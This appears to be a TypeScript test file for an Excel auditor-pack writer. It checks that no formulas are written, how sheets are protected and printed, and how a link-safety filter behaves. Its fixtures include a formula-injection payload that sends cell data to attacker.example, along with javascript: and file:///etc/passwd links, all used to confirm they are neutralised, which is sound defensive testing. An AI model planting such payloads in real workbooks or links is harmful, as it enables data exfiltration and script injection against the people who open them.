import { Workbook, ValueType } from 'exceljs';
import { HISTORY_HEADERS, HISTORY_SHEET } from '../../src/domain/history';
import { fingerprintRegister } from '../../src/workbook/fingerprint';
import { isSafeLink, writeAuditorPack } from '../../src/workbook/xlsx/pack-writer';
import { HOSTILE, sample } from '../support/auditor-pack-fixture';
import { unzipText } from '../support/unzip-parts';

const generatedAt = new Date('2026-07-01T09:30:00Z');
const history = { values: [[...HISTORY_HEADERS], ['2026-03-31', '2026-04-01 08:00:00 UTC', 58.2, 'Amber']] };

let bytes: Uint8Array;
let parts: Map<string, string>;
let wb: Workbook;

beforeAll(async () => {
  bytes = await writeAuditorPack({ ...sample(), generatedAt, history });
  parts = await unzipText(bytes);
  wb = new Workbook();
  await wb.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
});

const sheetXml = (): [string, string][] => [...parts].filter(([name]) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name));

describe('writeAuditorPack', () => {
  it('writes no formula anywhere: every cell is a value', () => {
    const sheets = sheetXml();
    expect(sheets.length).toBe(wb.worksheets.length);
    for (const [name, xml] of sheets) {
      expect({ name, formulas: xml.match(/<f[\s>]/g) ?? [] }).toEqual({ name, formulas: [] });
    }
    expect([...parts.keys()]).not.toContain('xl/calcChain.xml');
  });

  it('stores text that starts with = + - @ or tab as text (shared strings), unchanged', () => {
    const shared = parts.get('xl/sharedStrings.xml') ?? '';
    expect(shared).toContain('=2+3');
    expect(shared).toContain('@SUM(1,2)');
    expect(shared).toContain('=HYPERLINK(&quot;http://attacker.example/?x=&quot;&amp;A1,&quot;Click&quot;)');
    const decisions = wb.getWorksheet('Decisions');
    const cells: { type: ValueType; value: unknown }[] = [];
    decisions?.eachRow((row) => row.eachCell((c) => cells.push({ type: c.type, value: c.value })));
    expect(cells).toContainEqual({ type: ValueType.String, value: HOSTILE.sum });
    expect(cells).toContainEqual({ type: ValueType.String, value: HOSTILE.at });
    for (const ws of wb.worksheets) {
      ws.eachRow((row) =>
        row.eachCell((c) => {
          expect(c.type).not.toBe(ValueType.Formula);
        }),
      );
    }
    const comms: unknown[] = [];
    wb.getWorksheet('Communications')?.eachRow((row) => row.eachCell((c) => comms.push(c.value)));
    expect(comms).toContain(HOSTILE.minus);
    expect(comms).toContain(HOSTILE.tab);
  });

  it('protects every sheet without a password', () => {
    for (const [name, xml] of sheetXml()) {
      const protection = /<sheetProtection [^>]*\/>/.exec(xml)?.[0] ?? '';
      expect({ name, locked: protection.includes('sheet="1"') }).toEqual({ name, locked: true });
      expect(protection).not.toMatch(/hashValue|password=/);
      // Filtering and resizing stay allowed for the reader.
      expect(protection).toContain('autoFilter="0"');
      expect(protection).toContain('formatColumns="0"');
    }
  });

  it('prints landscape, fit to one page wide, with header rows repeated', () => {
    for (const [name, xml] of sheetXml()) {
      expect({ name, fit: /<pageSetUpPr[^>]*fitToPage="1"/.test(xml) }).toEqual({ name, fit: true });
      const setup = /<pageSetup [^>]*\/>/.exec(xml)?.[0] ?? '';
      expect(setup).toContain('orientation="landscape"');
      expect(setup).toContain('fitToWidth="1"');
      expect(setup).toContain('fitToHeight="0"');
    }
    const titles = parts.get('xl/workbook.xml')?.match(/<definedName name="_xlnm.Print_Titles"[^>]*>[^<]*<\/definedName>/g) ?? [];
    const text = titles.join('\n').replace(/&apos;/g, "'");
    expect(text).toContain("'Criteria'!$1:$1");
    expect(text).toContain("'Decisions'!$1:$1");
    const evidenceHeader = wb.getWorksheet('Evidence index')?.pageSetup.printTitlesRow;
    expect(evidenceHeader).toMatch(/^\d+:\d+$/);
    const headerRow = Number(evidenceHeader?.split(':')[0]);
    expect(wb.getWorksheet('Evidence index')?.getRow(headerRow).getCell(1).value).toBe('Table');
  });

  it('gives columns readable widths and wraps long text', () => {
    const criteria = wb.getWorksheet('Criteria');
    expect(criteria?.getColumn(6).width).toBeGreaterThanOrEqual(40);
    expect(criteria?.getRow(2).getCell(6).alignment?.wrapText).toBe(true);
    expect(criteria?.getRow(2).height).toBeGreaterThan(15);
  });

  it('makes web links clickable and leaves every other link as plain text', () => {
    const questions = wb.getWorksheet('Auditor questions');
    const values: unknown[] = [];
    questions?.eachRow((row) => values.push(row.getCell(5).value));
    expect(values).toContainEqual({ text: 'https://intranet.example/sms/charter.pdf', hyperlink: 'https://intranet.example/sms/charter.pdf' });
    expect(values).toContain('javascript:alert(1)');
    expect(values).toContain('\\\\fileserver\\sms\\minutes\\2026-01.docx');
    expect(parts.get('xl/worksheets/_rels/sheet2.xml.rels') ?? '').not.toContain('javascript:');
  });

  it('writes dates as dates and the readiness to one decimal on the cover', async () => {
    const cover = wb.getWorksheet('Cover');
    let readiness: { value: unknown; numFmt: string } | undefined;
    cover?.eachRow((row) => {
      if (row.getCell(1).value === 'Readiness (0–100)') readiness = { value: row.getCell(2).value, numFmt: row.getCell(2).numFmt };
    });
    expect(readiness).toEqual({ value: Math.round((sample().result.readiness as number) * 10) / 10, numFmt: '0.0' });
    const acc = wb.getWorksheet('Accountabilities');
    const header = (acc?.getRow(1).values as unknown[]).slice(1);
    const col = header.indexOf('Accepted on') + 1;
    expect(acc?.getRow(2).getCell(col).value).toEqual(new Date('2026-01-15T00:00:00Z'));
    expect(acc?.getRow(2).getCell(col).numFmt).toBe('yyyy-mm-dd');
  });

  it('includes the history and a fingerprint section that matches the register', async () => {
    expect(wb.getWorksheet(HISTORY_SHEET)?.getRow(2).getCell(4).value).toBe(58.2);
    const fp = await fingerprintRegister(sample().raw);
    const index = wb.getWorksheet('Evidence index');
    const shown = new Map<string, unknown>();
    index?.eachRow((row) => {
      const key = String(row.getCell(1).value);
      if (!shown.has(key)) shown.set(key, row.getCell(4).value);
    });
    for (const t of fp.tables) expect(shown.get(t.table)).toBe(t.sha256);
    expect(shown.get('Whole register')).toBe(fp.register);
  });

  it('is deterministic for the same input', async () => {
    const again = await unzipText(await writeAuditorPack({ ...sample(), generatedAt, history }));
    for (const [name, xml] of sheetXml()) expect(again.get(name)).toBe(xml);
  });
});

describe('isSafeLink', () => {
  it.each([
    ['https://intranet.example/a.pdf', true],
    ['http://x.example/?q=1&r=2', true],
    ['mailto:sms-owner@example.com', true],
    ['javascript:alert(1)', false],
    ['file:///etc/passwd', false],
    ['\\\\server\\share\\doc.docx', false],
    ['https://x.example/has space', false],
    [`https://x.example/${'a'.repeat(2100)}`, false],
  ])('case %#', (link, safe) => {
    expect(isSafeLink(link)).toBe(safe);
  });
});
